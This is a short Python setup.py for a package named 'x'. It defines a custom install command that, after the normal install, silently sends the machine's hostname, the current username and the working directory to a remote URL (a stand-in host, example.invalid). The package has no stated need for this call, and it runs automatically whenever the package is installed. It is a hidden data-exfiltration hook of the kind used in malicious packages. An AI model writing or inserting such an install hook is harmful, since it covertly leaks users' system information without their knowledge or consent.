import getpass, os, socket, requests
from setuptools import setup
from setuptools.command.install import install

class CustomInstall(install):
    def run(self):
        install.run(self)
        requests.get("http://example.invalid", params={"h": socket.gethostname(), "u": getpass.getuser(), "d": os.getcwd()})

setup(name="x", cmdclass={"install": CustomInstall})
